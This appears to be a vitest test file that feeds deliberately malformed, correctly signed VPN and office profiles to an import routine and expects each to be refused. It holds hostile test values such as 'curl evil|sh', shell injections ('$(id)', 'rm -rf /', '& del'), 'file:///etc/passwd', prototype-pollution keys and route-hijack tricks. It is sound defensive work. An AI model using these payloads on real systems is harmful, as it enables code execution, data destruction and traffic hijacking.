/**
 * The hostile-profile corpus: one or more profiles per rule of PROFILE-FORMAT.md,
 * each correctly signed by the company key (so only the content rules stand
 * between it and the machine), each refused with its specific error, and
 * nothing stored.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { importProfile, loadProfileFile } from '../../../src/core/profile';
import { startTestHelper, type TestHelper } from '../../fixtures/helper';
import { UserError } from '../../../src/shared/errors';
import type { MessageKey } from '../../../src/shared/i18n';
import { NOW, examplePayload, makeOrgKey, signBytes, signPayload, signText, wgKey, type MutablePayload } from '../../fixtures/profiles/make';

const org = makeOrgKey();
let home: string;
let env: NodeJS.ProcessEnv;
let helper: TestHelper;

beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'hoc-hostile-'));
  env = { HOC_HOME: home, HOC_SECRET_STORE: 'file' };
  helper = await startTestHelper(() => NOW);
});
afterEach(async () => {
  helper.close();
  await rm(home, { recursive: true, force: true });
});

/** Writes the envelope to a file and runs the whole import path on it. */
async function attemptImport(envelope: string | Buffer): Promise<UserError> {
  const file = join(home, 'in.hocprofile');
  await writeFile(file, envelope);
  try {
    const verified = await loadProfileFile(file, { now: NOW });
    await importProfile(verified, { env, now: NOW, helper: { socketPath: helper.socketPath } });
  } catch (err) {
    expect(err).toBeInstanceOf(UserError);
    return err as UserError;
  }
  throw new Error('profile was accepted');
}

async function expectNothingStored(): Promise<void> {
  expect(existsSync(join(home, 'profiles'))).toBe(false);
  expect(existsSync(join(home, 'secrets'))).toBe(false);
  expect(await readdir(home)).toEqual(['in.hocprofile']);
}

type Payload = MutablePayload;

/** Mutates the example payload, signs it properly, and expects the given refusal. */
async function refuse(mutate: (p: Payload) => void, code: MessageKey, path?: string): Promise<UserError> {
  const p = examplePayload();
  mutate(p);
  const err = await attemptImport(signPayload(p, org));
  expect(err.code).toBe(code);
  if (path !== undefined) expect(err.detail).toBe(path);
  await expectNothingStored();
  return err;
}

async function refuseEnvelope(envelope: string | Buffer, code: MessageKey): Promise<UserError> {
  const err = await attemptImport(envelope);
  expect(err.code).toBe(code);
  await expectNothingStored();
  return err;
}

const s = (p: Payload, i: number): Payload => p.services[i];

describe('accepts the example profile of the spec', () => {
  it('imports the example and stores it', async () => {
    const file = join(home, 'ok.hocprofile');
    await writeFile(file, signPayload(examplePayload(), org));
    const v = await loadProfileFile(file, { now: NOW });
    expect(v.profile.org.id).toBe('buero-mueller');
    expect(v.fingerprint).toMatch(/^([0-9a-f]{4} ){7}[0-9a-f]{4}$/);
    expect(v.orgKey).toBe(org.raw.toString('base64'));
  });

  it('accepts IP literals inside allowedIPs and a service timeout', async () => {
    const p = examplePayload();
    p.services.push({ id: 'nas', label: 'NAS', kind: 'smb', host: '10.77.0.20', timeoutMs: 5000 });
    p.tunnel.peer.allowedIPs.push('fd00:77::/64');
    p.services.push({ id: 'nas6', label: 'NAS v6', kind: 'https', url: 'https://[fd00:77::5]:8443/x' });
    p.drives.push({ letter: 'Q', label: 'Q', share: '\\\\10.77.0.20\\Büro Ablage\\2026 $' });
    const file = join(home, 'ok.hocprofile');
    await writeFile(file, signPayload(p, org));
    const v = await loadProfileFile(file, { now: NOW });
    // Accepted as written: nothing dropped or rewritten on the way.
    expect(v.profile.services).toEqual(
      expect.arrayContaining([
        { id: 'nas', label: 'NAS', kind: 'smb', host: '10.77.0.20', timeoutMs: 5000 },
        { id: 'nas6', label: 'NAS v6', kind: 'https', url: 'https://[fd00:77::5]:8443/x' },
      ]),
    );
    expect(v.profile.tunnel.peer.allowedIPs).toContain('fd00:77::/64');
    expect(v.profile.drives?.find((d) => d.letter === 'Q')?.share).toBe('\\\\10.77.0.20\\Büro Ablage\\2026 $');
  });

  it('accepts a label of exactly 80 characters and issuedAt 12 hours ahead (clock skew)', async () => {
    const p = examplePayload();
    p.services[0].label = 'x'.repeat(80);
    p.issuedAt = '2027-01-01T12:00:00Z';
    const file = join(home, 'ok.hocprofile');
    await writeFile(file, signPayload(p, org));
    const v = await loadProfileFile(file, { now: NOW });
    expect(v.profile.services[0]?.label).toBe('x'.repeat(80));
    expect(v.profile.issuedAt).toBe('2027-01-01T12:00:00Z');
  });
});

describe('structure', () => {
  it('refuses an unknown top-level field', () => refuse((p) => (p.autostart = true), 'profile.field.unknown', '$.autostart'));
  it('refuses an unknown field in a service', () =>
    refuse((p) => (s(p, 0).command = 'calc.exe'), 'profile.field.unknown', '$.services[0].command'));
  it('refuses an unknown field in the peer (no PostUp through the back door)', () =>
    refuse((p) => (p.tunnel.peer.PostUp = 'curl evil|sh'), 'profile.field.unknown', '$.tunnel.peer.PostUp'));
  it('refuses a missing field', () => refuse((p) => delete p.support.phone, 'profile.field.missing', '$.support.phone'));
  it('refuses services that are not a list', () => refuse((p) => (p.services = {}), 'profile.field.notArray', '$.services'));
  it('refuses an org that is not an object', () => refuse((p) => (p.org = 'buero'), 'profile.field.notObject', '$.org'));
  it('refuses a number where text belongs', () => refuse((p) => (p.user.name = 42), 'profile.field.notString', '$.user.name'));
  it('refuses a port given as text', () => refuse((p) => (s(p, 0).port = '27000'), 'profile.field.notInteger', '$.services[0].port'));
  it('refuses a payload that is an array', async () => {
    const err = await refuseEnvelope(signText('[]', org), 'profile.field.notObject');
    expect(err.detail).toBe('$');
  });
});

describe('prototype keys', () => {
  const withKey = (json: string, code: MessageKey) => refuseEnvelope(signText(json, org), code);
  const base = () => JSON.stringify(examplePayload());

  it('refuses a top-level __proto__ key', async () => {
    const err = await withKey(base().replace(/^\{/, '{"__proto__":{"isAdmin":true},'), 'profile.field.forbidden');
    expect(err.params.key).toBe('__proto__');
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });
  it('refuses a constructor key inside org', () =>
    withKey(base().replace('"org":{', '"org":{"constructor":{"prototype":{}},'), 'profile.field.forbidden'));
  it('refuses a prototype key inside a service', () =>
    withKey(base().replace('"services":[{', '"services":[{"prototype":1,'), 'profile.field.forbidden'));
  it('refuses a __proto__ key in the envelope', () => {
    const env = JSON.parse(signPayload(examplePayload(), org)) as Record<string, unknown>;
    const text = JSON.stringify(env).replace(/^\{/, '{"__proto__":{},');
    return refuseEnvelope(text, 'profile.field.forbidden');
  });
});

describe('strings', () => {
  it('refuses a control character (BEL) in the company name', () =>
    refuse((p) => (p.org.name = 'Müller\u0007'), 'profile.text.control', '$.org.name'));
  it('refuses a newline in a label', () => refuse((p) => (s(p, 1).label = 'Datei\nserver'), 'profile.text.control'));
  it('refuses an ANSI escape (C1 CSI) in the user name', () => refuse((p) => (p.user.name = 'Anna\u009b2J'), 'profile.text.control'));
  it('refuses a right-to-left override that disguises the company name', () =>
    refuse((p) => (p.org.name = 'Büro \u202egilleM'), 'profile.text.control'));
  it('refuses a NUL byte in a share', () => refuse((p) => (p.drives[0].share = '\\\\fs.buero.local\\p\u0000'), 'profile.text.control'));
  it('refuses a label of 81 characters', async () => {
    const err = await refuse((p) => (s(p, 0).label = 'x'.repeat(81)), 'profile.text.tooLong', '$.services[0].label');
    expect(err.params.max).toBe(80);
  });
  it('refuses oversize support hours', () => refuse((p) => (p.support.hours = 'h'.repeat(300)), 'profile.text.tooLong'));
  it('refuses an oversize URL', () =>
    refuse((p) => (s(p, 7).url = `https://intranet.buero.local/${'a'.repeat(300)}`), 'profile.text.tooLong'));
  it('refuses an empty label', () => refuse((p) => (p.drives[0].label = '  '), 'profile.text.empty'));
});

describe('list sizes', () => {
  it('refuses 65 services', () =>
    refuse(
      (p) => (p.services = Array.from({ length: 65 }, (_, i) => ({ id: `s${i}`, label: 'S', kind: 'smb', host: 'fs.buero.local' }))),
      'profile.list.tooMany',
      '$.services',
    ));
  it('refuses 27 drives', () =>
    refuse((p) => (p.drives = Array.from({ length: 27 }, () => p.drives[0])), 'profile.list.tooMany', '$.drives'));
  it('refuses 33 printers', () =>
    refuse((p) => (p.printers = Array.from({ length: 33 }, () => p.printers[0])), 'profile.list.tooMany', '$.printers'));
  it('refuses 65 allowedIPs', () =>
    refuse(
      (p) => (p.tunnel.peer.allowedIPs = Array.from({ length: 65 }, (_, i) => `10.${i}.0.0/16`)),
      'profile.list.tooMany',
    ));
  it('refuses a tunnel without an address', () => refuse((p) => (p.tunnel.address = []), 'profile.list.tooFew'));
});

describe('hosts inside the company', () => {
  it('refuses a service outside the company domain', async () => {
    const err = await refuse((p) => (s(p, 0).host = 'cad.example.com'), 'profile.service.hostOutside', '$.services[0].host');
    expect(err.localized('de')).toBe('Dienst „cad-license“ zeigt auf cad.example.com, das nicht zur Firma buero.local gehört.');
  });
  it('refuses a look-alike domain that only ends with the company name', () =>
    refuse((p) => (s(p, 0).host = 'evilbuero.local'), 'profile.service.hostOutside'));
  it('refuses a domain that only starts with the company domain', () =>
    refuse((p) => (s(p, 0).host = 'buero.local.attacker.example'), 'profile.service.hostOutside'));
  it('refuses an IP address outside the tunnel ranges', () =>
    refuse((p) => (s(p, 2).host = '8.8.8.8'), 'profile.service.ipOutside', '$.services[2].host'));
  it('refuses an IPv6 address outside the tunnel ranges', () =>
    refuse((p) => (s(p, 2).host = '2001:db8::1'), 'profile.service.ipOutside'));
  it('refuses a non-ASCII (homograph) host name', () => refuse((p) => (s(p, 0).host = 'cаd.buero.local'), 'profile.service.host'));
  it('refuses an https URL outside the company domain', () =>
    refuse((p) => (s(p, 7).url = 'https://login.example.com/'), 'profile.service.hostOutside', '$.services[7].url'));
  it('refuses a share outside the company domain', async () => {
    const err = await refuse((p) => (p.drives[0].share = '\\\\fs.example.com\\projekte'), 'profile.drive.hostOutside', '$.drives[0].share');
    expect(err.localized('de')).toBe('Laufwerk P: zeigt auf fs.example.com, das nicht zur Firma buero.local gehört.');
    expect(err.localized('en')).toBe('Drive P: points to fs.example.com, which does not belong to the company buero.local.');
  });
  it('refuses a share on an IP outside the tunnel', () =>
    refuse((p) => (p.drives[0].share = '\\\\192.168.1.10\\projekte'), 'profile.drive.ipOutside'));
  it('refuses a printer outside the company domain', () =>
    refuse((p) => (p.printers[0].uri = 'ipp://print.example.com/printers/x'), 'profile.printer.hostOutside'));
  it('refuses DNS servers outside the tunnel', () =>
    refuse((p) => (p.tunnel.dns.servers = ['10.77.0.1', '1.1.1.1']), 'profile.dns.serverOutside', '$.tunnel.dns.servers[1]'));
  it('refuses a DNS server given as a name', () => refuse((p) => (p.tunnel.dns.servers = ['dns.buero.local']), 'profile.dns.serverNotIp'));
  it('refuses a search domain outside the company (DNS hijack of other sites)', () =>
    refuse((p) => (p.tunnel.dns.searchDomains = ['bank.example']), 'profile.dns.searchDomain'));
});

describe('routes', () => {
  it('refuses an IPv4 default route', () =>
    refuse((p) => p.tunnel.peer.allowedIPs.push('0.0.0.0/0'), 'profile.tunnel.defaultRoute', '$.tunnel.peer.allowedIPs[2]'));
  it('refuses an IPv6 default route', () => refuse((p) => p.tunnel.peer.allowedIPs.push('::/0'), 'profile.tunnel.defaultRoute'));
  it('refuses the split default route trick 0.0.0.0/1 + 128.0.0.0/1', () =>
    refuse((p) => p.tunnel.peer.allowedIPs.push('0.0.0.0/1', '128.0.0.0/1'), 'profile.tunnel.routeTooBroad'));
  it('refuses a malformed allowed range', () => refuse((p) => p.tunnel.peer.allowedIPs.push('10.0.0.0/33'), 'profile.tunnel.allowedIP'));
  it('refuses a tunnel address with prefix 0', () => refuse((p) => (p.tunnel.address = ['10.99.0.2/0']), 'profile.tunnel.addressTooBroad'));
  it('refuses an endpoint without a port', () => refuse((p) => (p.tunnel.peer.endpoint = 'vpn.example'), 'profile.tunnel.endpoint'));
});

describe('drives', () => {
  for (const share of [
    '\\\\fs.buero.local\\projekte;calc.exe',
    '\\\\fs.buero.local\\projekte$(id)',
    '\\\\fs.buero.local\\projekte`id`',
    '\\\\fs.buero.local\\projekte|more',
    '\\\\fs.buero.local\\projekte & del',
    '\\\\fs.buero.local\\pro"jekte',
    '//fs.buero.local/projekte',
    'C:\\Windows',
    '\\\\fs.buero.local',
    '\\\\fs.buero.local\\projekte\\',
  ]) {
    it(`refuses the share ${JSON.stringify(share)} (shell metacharacters or bad syntax)`, () =>
      refuse((p) => (p.drives[0].share = share), 'profile.drive.share', '$.drives[0].share'));
  }
  it('refuses a share with a .. segment', () =>
    refuse((p) => (p.drives[0].share = '\\\\fs.buero.local\\projekte\\..\\..\\admin$'), 'profile.drive.shareDotDot'));
  it('refuses drive letter C', () => refuse((p) => (p.drives[0].letter = 'C'), 'profile.drive.letter'));
  it('refuses a lowercase drive letter', () => refuse((p) => (p.drives[0].letter = 'p'), 'profile.drive.letter'));
  it('refuses a two-letter drive', () => refuse((p) => (p.drives[0].letter = 'PQ'), 'profile.drive.letter'));
  it('refuses the same drive letter twice', () =>
    refuse((p) => p.drives.push({ ...p.drives[0], label: 'Nochmal' }), 'profile.drive.duplicateLetter', '$.drives[1].letter'));
});

describe('printers', () => {
  for (const name of ['Plotter;rm -rf /', 'Plotter$(id)', 'Plot ter', '-E', '../cups']) {
    it(`refuses the printer name ${JSON.stringify(name)}`, () => refuse((p) => (p.printers[0].name = name), 'profile.printer.name'));
  }
  it('refuses a file: printer URI', async () => {
    const err = await refuse((p) => (p.printers[0].uri = 'file:///etc/passwd'), 'profile.printer.scheme', '$.printers[0].uri');
    expect(err.params.scheme).toBe('file');
  });
  it('refuses an http: printer URI', () => refuse((p) => (p.printers[0].uri = 'http://print.buero.local/'), 'profile.printer.scheme'));
  it('refuses a printer URI with a space', () =>
    refuse((p) => (p.printers[0].uri = 'ipp://print.buero.local/printers/a b'), 'profile.printer.uri'));
  it('refuses a printer URI with credentials', () =>
    refuse((p) => (p.printers[0].uri = 'smb://admin:geheim@print.buero.local/Plotter'), 'profile.url.userinfo'));
  it('refuses the same printer twice', () =>
    refuse((p) => p.printers.push({ ...p.printers[0], name: 'plotter-designjet' }), 'profile.printer.duplicateName'));
});

describe('URLs and services', () => {
  it('refuses http:// for an https service', () =>
    refuse((p) => (s(p, 7).url = 'http://intranet.buero.local/'), 'profile.url.scheme', '$.services[7].url'));
  it('refuses a javascript: URL', () => refuse((p) => (s(p, 7).url = 'javascript:alert(1)'), 'profile.url.scheme'));
  it('refuses a file: URL for an ipp service', () => refuse((p) => (s(p, 4).url = 'file:///etc/cups'), 'profile.url.scheme'));
  it('refuses a URL with user-info', () =>
    refuse((p) => (s(p, 7).url = 'https://user:pw@intranet.buero.local/'), 'profile.url.userinfo'));
  it('refuses a URL with a backslash', () => refuse((p) => (s(p, 7).url = 'https://intranet.buero.local\\evil.example/'), 'profile.url.invalid'));
  it('refuses port 0', () => refuse((p) => (s(p, 0).port = 0), 'profile.service.port'));
  it('refuses port 65536', () => refuse((p) => (s(p, 0).port = 65536), 'profile.service.port'));
  it('refuses a fractional port', () => refuse((p) => (s(p, 0).port = 80.5), 'profile.field.notInteger'));
  it('refuses a tcp service without a port', () => refuse((p) => delete s(p, 0).port, 'profile.service.needsPort'));
  it('refuses an https service with a host field', () => refuse((p) => (s(p, 7).host = 'intranet.buero.local'), 'profile.service.fieldNotAllowed'));
  it('refuses an ipp service without a url', () => refuse((p) => delete s(p, 4).url, 'profile.service.needsUrl'));
  it('refuses an smb service without a host', () => refuse((p) => delete s(p, 1).host, 'profile.service.needsHost'));
  it('refuses an unknown service kind', () => refuse((p) => (s(p, 0).kind = 'ssh'), 'profile.service.kind'));
  it('refuses duplicate service ids', () => refuse((p) => (s(p, 1).id = 'cad-license'), 'profile.service.duplicateId', '$.services[1].id'));
  it('refuses a service id with capitals or slashes', () => refuse((p) => (s(p, 0).id = 'CAD/../x'), 'profile.service.id'));
  it('refuses a timeout below 100 ms', () => refuse((p) => (s(p, 0).timeoutMs = 50), 'profile.service.timeout'));
  it('refuses a timeout above 30 s', () => refuse((p) => (s(p, 0).timeoutMs = 30001), 'profile.service.timeout'));
});

describe('tunnel numbers and keys', () => {
  it('refuses MTU 1279', () => refuse((p) => (p.tunnel.mtu = 1279), 'profile.tunnel.mtu'));
  it('refuses MTU 9000', () => refuse((p) => (p.tunnel.mtu = 9000), 'profile.tunnel.mtu'));
  it('refuses keepalive 3601', () => refuse((p) => (p.tunnel.peer.persistentKeepalive = 3601), 'profile.tunnel.keepalive'));
  it('refuses a negative keepalive', () => refuse((p) => (p.tunnel.peer.persistentKeepalive = -1), 'profile.tunnel.keepalive'));
  it('refuses a private key that is not 32 bytes', () =>
    refuse((p) => (p.tunnel.privateKey = Buffer.alloc(31).toString('base64')), 'profile.key.invalid', '$.tunnel.privateKey'));
  it('refuses a public key in URL-safe base64', () =>
    refuse((p) => (p.tunnel.peer.publicKey = wgKey().replace(/\+/g, '-').replace(/\//g, '_').replace(/=$/, '')), 'profile.key.invalid'));
  it('refuses a preshared key with spaces', () => refuse((p) => (p.tunnel.peer.presharedKey = ` ${wgKey()}`), 'profile.key.invalid'));
});

describe('org, people and dates', () => {
  it('refuses an org id that could escape a folder', () => refuse((p) => (p.org.id = '../etc'), 'profile.org.id'));
  it('refuses a top-level domain as company domain', () => refuse((p) => (p.org.domain = 'com'), 'profile.org.domain'));
  it('refuses serial 0', () => refuse((p) => (p.serial = 0), 'profile.serial'));
  it('refuses a phone number with letters', () => refuse((p) => (p.support.phone = 'javascript:alert(1)'), 'profile.support.phone'));
  it('refuses an e-mail address with markup', () => refuse((p) => (p.support.email = '<a href=x>hilfe@it.example'), 'profile.support.email'));
  it('refuses an e-mail address that is a mailto: link', () =>
    refuse((p) => (p.support.email = 'mailto:hilfe@it-service.example?body=x'), 'profile.support.email'));
  it('refuses an expired profile', async () => {
    const err = await refuse((p) => (p.expiresAt = '2026-12-31T23:59:59Z'), 'profile.expired', '$.expiresAt');
    expect(err.localized('de')).toContain('abgelaufen');
  });
  it('refuses issuedAt more than a day in the future', () =>
    refuse((p) => (p.issuedAt = '2027-01-02T00:00:01Z'), 'profile.issuedInFuture', '$.issuedAt'));
  it('refuses a German-style date', () => refuse((p) => (p.issuedAt = '28.11.2026'), 'profile.date.invalid'));
  it('refuses 30 February', () => refuse((p) => (p.expiresAt = '2027-02-30T00:00:00Z'), 'profile.date.invalid'));
  it('refuses expiry before issue', () => refuse((p) => (p.expiresAt = '2026-11-27T00:00:00Z'), 'profile.expiresBeforeIssued'));
});

describe('envelope and signature', () => {
  const good = () => JSON.parse(signPayload(examplePayload(), org)) as Record<string, unknown>;

  it('refuses a tampered payload', () => {
    const e = good();
    const bytes = Buffer.from(e.payload as string, 'base64');
    bytes[bytes.indexOf('fs.buero.local')] = 'e'.charCodeAt(0);
    e.payload = bytes.toString('base64');
    return refuseEnvelope(JSON.stringify(e), 'profile.signature.invalid');
  });
  it('refuses a profile signed by another key', () => {
    const e = JSON.parse(signPayload(examplePayload(), makeOrgKey())) as Record<string, unknown>;
    e.orgKey = org.raw.toString('base64');
    return refuseEnvelope(JSON.stringify(e), 'profile.signature.invalid');
  });
  it('refuses an org key that is not a valid curve point or has the wrong length', async () => {
    const e = good();
    e.orgKey = Buffer.alloc(31).toString('base64');
    await refuseEnvelope(JSON.stringify(e), 'profile.envelope.orgKey');
  });
  it('refuses a truncated signature', () => {
    const e = good();
    e.signature = Buffer.from(e.signature as string, 'base64').subarray(0, 63).toString('base64');
    return refuseEnvelope(JSON.stringify(e), 'profile.envelope.signatureLength');
  });
  it('refuses base64 with whitespace', () => {
    const e = good();
    e.payload = ` ${e.payload as string}`;
    return refuseEnvelope(JSON.stringify(e), 'profile.envelope.base64');
  });
  it('refuses base64 without padding', () => {
    const e = good();
    e.signature = (e.signature as string).replace(/=+$/, '');
    return refuseEnvelope(JSON.stringify(e), 'profile.envelope.base64');
  });
  it('refuses an unknown envelope field', () => refuseEnvelope(JSON.stringify({ ...good(), hint: 'x' }), 'profile.field.unknown'));
  it('refuses another format', () => refuseEnvelope(JSON.stringify({ ...good(), format: 'wireguard' }), 'profile.envelope.format'));
  it('asks for an update on version 2', async () => {
    const err = await refuseEnvelope(JSON.stringify({ ...good(), version: 2 }), 'profile.envelope.version');
    expect(err.localized('de')).toContain('aktualisieren');
  });
  it('refuses a file that is not JSON', () => refuseEnvelope('[Interface]\nPrivateKey = x\n', 'profile.envelope.notJson'));
  it('refuses a file over 256 KiB', () => refuseEnvelope(Buffer.alloc(256 * 1024 + 1, 32), 'profile.file.tooLarge'));
  it('refuses a signed payload that is not UTF-8', () => refuseEnvelope(signBytes(Buffer.from([0x7b, 0xff, 0x7d]), org), 'profile.payload.encoding'));
  it('refuses a signed payload that is not JSON', () => refuseEnvelope(signText('{"org":', org), 'profile.payload.notJson'));
});
